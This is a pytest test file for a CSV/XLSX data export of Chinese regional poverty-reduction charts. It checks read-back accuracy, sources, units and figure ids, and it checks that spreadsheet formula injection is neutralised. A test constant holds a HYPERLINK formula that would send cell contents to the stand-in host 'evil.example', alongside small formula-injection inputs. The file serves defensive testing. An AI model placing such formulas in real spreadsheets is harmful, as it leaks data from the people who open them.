"""Data export: CSV and XLSX read back equal to the chart's points, with sources; formulas come out inert."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update

from db.models import Figure
from db.session import make_engine, session_factory
from export.charts import build_chart
from export.tables import columns_of, csv_bytes, neutralise, xlsx_bytes

DINGXI, REDUCED = "621100", "poor_population_reduced"
INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture(scope="module")
def dingxi(seed_db_url):
    with session_factory(make_engine(seed_db_url))() as session:
        return build_chart(session, DINGXI, REDUCED)


def figure_points(export) -> set[tuple[str, int, float]]:
    """(series label, year, value) for every bar the chart draws."""
    return {
        (trace["name"], int(x), float(y))
        for trace in export.figure["data"]
        for x, y in zip(trace["x"], trace["y"], strict=True)
    }


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10", "'+86 10"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "␍=1"),  # a lone CR is never written raw (issue 16): its visible escape is inert text already
        ("定西市 = 28.52万", "定西市 = 28.52万"),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_neutralise_prefixes_only_text_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected


def test_csv_has_a_bom_and_reads_back_equal_to_the_chart(dingxi):
    data = csv_bytes(dingxi.rows)
    assert data.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"地区代码 region code": str})
    read = {(r["系列 series"], int(r["年份 Year"]), float(r["数值 Value"])) for _, r in frame.iterrows()}
    assert read == figure_points(dingxi)
    assert len(frame) == sum(len(trace["x"]) for trace in dingxi.figure["data"])
    assert set(frame["地区代码 region code"]) == {DINGXI}
    assert "定西市人民代表大会常务委员会关于深入推进精准扶贫工作的决定" in set(frame["计划版本 Plan version"])
    assert frame["来源 Source"].str.len().min() > 0, "every row names its source"
    assert frame["数据编号 figure ids"].astype(str).str.len().min() > 0


def test_xlsx_reads_back_equal_to_the_chart_with_formats_and_a_sources_sheet(dingxi):
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(dingxi)))
    assert wb.sheetnames == ["数据 Data", "来源 Sources", "说明 About"]
    data = wb["数据 Data"]
    head = [c.value for c in data[1]]
    col = {name: head.index(name) for name in ("系列 series", "年份 Year", "数值 Value", "计划版本 Plan version")}
    rows = list(data.iter_rows(min_row=2))
    read = {(r[col["系列 series"]].value, r[col["年份 Year"]].value, float(r[col["数值 Value"]].value)) for r in rows}
    assert read == figure_points(dingxi)
    assert all(r[col["数值 Value"]].number_format == "#,##0" for r in rows)
    assert all(isinstance(r[col["数值 Value"]].value, int | float) for r in rows)
    sources = wb["来源 Sources"]
    quotes = [c.value for c in sources["L"][1:]]
    assert len(quotes) == len(dingxi.sources) and all(quotes)
    about = {r[0].value: r[1].value for r in wb["说明 About"].iter_rows()}
    assert about["在线查看 view online"].endswith("/region/621100?indicator=poor_population_reduced")
    assert about["数据截至 data as of"] != "—"


def test_injected_hyperlink_note_comes_out_inert(db_url):
    sessions = session_factory(make_engine(db_url))
    with sessions() as session, session.begin():
        chart = build_chart(session, DINGXI, REDUCED)
        first = int(chart.rows[0]["figure_ids"].split(",")[0])
        session.execute(update(Figure).where(Figure.id == first).values(note=INJECTED, quote=INJECTED))
    with sessions() as session:
        chart = build_chart(session, DINGXI, REDUCED)
    text = csv_bytes(chart.rows).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + INJECTED in cells
    assert INJECTED not in cells
    raw = xlsx_bytes(chart)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets, "no cell of the export is a formula"
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    values = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + INJECTED in values and INJECTED not in values


@pytest.fixture(scope="module")
def dingxi_counties(seed_db_url):
    with session_factory(make_engine(seed_db_url))() as session:
        return build_chart(session, DINGXI, "counties_exited", chart="children")


def children_bars(export) -> dict[str, tuple]:
    """(plan, actual) bar lengths per sub-region code, read from the figure as drawn."""
    plan, actual = export.figure["data"]
    assert plan["y"] == actual["y"]
    codes = [cd[0] for cd in plan["customdata"]]
    return {code: (p, a) for code, p, a in zip(codes, plan["x"], actual["x"], strict=True)}


def test_children_csv_reads_back_equal_to_the_sub_region_bars(dingxi_counties):
    export = dingxi_counties
    data = csv_bytes(export.rows, columns_of(export))
    frame = pd.read_csv(
        io.BytesIO(data),
        encoding="utf-8-sig",
        dtype={"地区代码 region code": str, "实际数据编号 actual figure ids": str},
    )
    read = {r["地区代码 region code"]: (r["目标 Target"], r["实际 Actual"]) for _, r in frame.iterrows()}
    assert read == children_bars(export)
    drawn = [cd[0] for cd in export.figure["data"][0]["customdata"]]
    assert list(frame["地区代码 region code"]) == drawn, "rows in the chart's order"
    assert len(frame) == 7 and set(frame["地区代码 region code"].str[:4]) == {"6211"}
    assert frame["状态 Status"].str.len().min() > 0 and frame["来源 Source"].str.len().min() > 0
    assert "✖ 落后" in set(frame["状态 Status"]), "安定区 planned 2016 and exited 2020: behind, in words"


def test_children_xlsx_has_the_bars_and_every_figure_behind_each_total(dingxi_counties, seed_db_url):
    export = dingxi_counties
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(export)))
    assert wb.sheetnames == ["数据 Data", "来源 Sources", "说明 About"]
    data = wb["数据 Data"]
    head = [c.value for c in data[1]]
    rows = [dict(zip(head, (c.value for c in r), strict=True)) for r in data.iter_rows(min_row=2)]
    assert {str(r["地区代码 region code"]): (r["目标 Target"], r["实际 Actual"]) for r in rows} == children_bars(export)
    listed = {
        int(i)
        for r in rows
        for k in ("目标数据编号 target figure ids", "实际数据编号 actual figure ids")
        for i in str(r[k] or "").split(",")
        if i
    }
    sources = wb["来源 Sources"]
    src_head = [c.value for c in sources[1]]
    src = [dict(zip(src_head, (c.value for c in r), strict=True)) for r in sources.iter_rows(min_row=2)]
    assert {s["数据编号 figure id"] for s in src} == listed, (
        "the sources sheet lists exactly the figures behind the bars"
    )
    assert all(s["原文 Quote"] for s in src) and any(str(s["网址 URL"]).startswith("https://") for s in src)
    by_id = {s["数据编号 figure id"]: s for s in src}
    for r in rows:  # each child's figures are its own (or its sub-regions'), so its sources trace
        ids = [int(i) for i in str(r["实际数据编号 actual figure ids"] or "").split(",") if i]
        assert ids and all(by_id[i]["地区代码 region code"] == r["地区代码 region code"] for i in ids)


@pytest.mark.parametrize("lang, unit", [("zh", "亩"), ("en", "mu")])
def test_an_export_writes_the_unit_in_the_readers_language(seed_db_url, lang, unit):
    """凌海市 技术推广面积 30,000 亩: "mu" in an English export (column and hover text), 亩 in a Chinese one."""
    with session_factory(make_engine(seed_db_url))() as session:
        export = build_chart(session, "210781", "other:tech_extension_area_mu", lang=lang)
    frame = pd.read_csv(io.BytesIO(csv_bytes(export.rows, columns_of(export), lang)), encoding="utf-8-sig")
    assert set(frame["单位 unit"]) == {unit}
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(export)))
    for sheet in ("数据 Data", "来源 Sources"):
        rows = list(book[sheet].values)
        column = rows[0].index("单位 unit")
        assert {r[column] for r in rows[1:]} == {unit}
    texts = [t for trace in export.figure["data"] for t in trace.get("text", [])]
    assert texts and all(text.endswith(unit) for text in texts if text)


def test_xlsx_figure_ids_look_up_in_the_sources_sheet_and_one_year_reads_as_a_year(dingxi, dingxi_counties):
    """One id is a number in 数据 Data as in 来源 Sources (so VLOOKUP matches); several stay text and the About sheet
    says so; a one-year period is written 2020, not 2020–2020."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(dingxi)))

    def table(sheet: str) -> list[dict]:
        rows = list(book[sheet].values)
        return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]

    data, sources = table("数据 Data"), table("来源 Sources")
    source_ids = {s["数据编号 figure id"] for s in sources}
    singles = [r["数据编号 figure ids"] for r in data if isinstance(r["数据编号 figure ids"], int)]
    assert singles and set(singles) <= source_ids
    assert all(isinstance(r["数据编号 figure ids"], int) or "," in r["数据编号 figure ids"] for r in data)
    periods = [s["期间 Period"] for s in sources]
    assert 2016 in periods  # 定西 2016, one year: a number, never "2016–2016"
    assert all(isinstance(p, int) or "–" in p for p in periods)
    about = dict(book["说明 About"].values)
    assert "逗号" in about["数据编号 figure ids"]
    kids = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(dingxi_counties)))["数据 Data"]
    head = [c.value for c in kids[1]]
    ids = [r[head.index("实际数据编号 actual figure ids")] for r in kids.iter_rows(min_row=2, values_only=True)]
    assert ids and all(isinstance(i, int) for i in ids)  # one exit each: one figure id each
